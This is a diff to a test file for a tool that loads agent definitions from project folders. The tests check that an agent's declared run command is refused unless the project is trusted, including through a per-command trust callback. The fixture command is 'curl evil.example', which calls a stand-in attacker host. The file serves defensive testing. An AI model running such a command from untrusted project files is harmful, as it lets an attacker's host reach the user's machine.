@@ -377,7 +377,13 @@ describe("a project", () => {
     expect(folders.problems(loaded)).toEqual([
       `project/.retinue/agents/a.md:4 error "accept" has a command run, for which the project must be trusted`,
     ]);
-    expect((await folders.load({ trusted: true })).agents.has("a")).toBe(true);
+    expect(loaded.refused).toEqual([
+      { agent: "a", file: path.join(folders.projectDir, ".retinue/agents/a.md"), line: 4, command: "curl evil.example" },
+    ]);
+    const all = await folders.load({ trusted: true });
+    expect([all.agents.has("a"), all.refused]).toEqual([true, []]);
+    const some = await folders.load({ trusted: ({ command }) => command !== "curl evil.example" });
+    expect([some.agents.has("a"), some.refused]).toEqual([false, loaded.refused]);
   });
 
   test("I5 G9 defines agents that hold no more than the grant, whatever their files say", async () => {
